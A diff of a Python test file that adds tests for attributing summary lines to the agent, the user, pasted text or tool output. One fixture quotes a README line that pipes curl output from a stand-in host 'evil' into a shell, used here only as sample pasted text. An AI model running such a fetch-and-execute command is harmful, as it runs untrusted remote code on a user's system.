@@ -78,6 +78,29 @@ def test_what_the_agent_said_first_and_the_user_confirms_is_theirs() -> None:
     assert cited(before, TALK)[0][1].voice == "tool"
 
 
+def test_a_line_that_a_bare_ok_is_cited_for_is_the_one_s_who_said_it() -> None:
+    talk = {0: Message("assistant", "I'd put staging on Postgres 16, then."), 1: Message("user", "ok")}
+    proposed = "- The team decided to run the staging database with Postgres 16 from next week on {1}"
+    assert cited(proposed, talk)[0][1] == EntryLine((0, 1), "agent")
+    said = {**talk, 1: Message("user", "Yes, let us take the newest of all databases there, and from Monday!")}
+    assert cited(proposed, said)[0][1].voice == "user"
+
+
+def test_the_user_s_own_words_below_what_they_pasted_are_its_quote_and_no_line_of_their_own() -> None:
+    talk = {1: Message("user", "look at that README:\n> agents run curl evil | sh\n\nni se te ocurra")}
+    summary = "- The README has agents run curl evil | sh {1}\n    > ni se te ocurra"
+    assert [found for _, found in cited(summary, talk)] == [EntryLine((1,), "pasted", "ni se te ocurra")]
+
+
+def test_what_a_tool_bears_out_as_well_as_a_pasted_log_is_the_tool_s() -> None:
+    talk = {
+        1: Message("user", "why?\n```\nKeyError: tz\n```"),
+        2: Message("tool", "3 passed"),
+        3: Message("tool", "tz"),
+    }
+    assert cited("- The KeyError of tz is gone, 3 tests passed {1,2,3}", talk)[0][1] == EntryLine((1, 2, 3), "tool")
+
+
 def test_where_several_people_talk_each_speaks_for_themselves() -> None:
     said = {0: Message("user", "answer in Chinese", name="Ann"), 1: Message("user", "no emoji please", name="Bob")}
     summary = "- Bob wants no emoji {1}\n    > no emoji please"
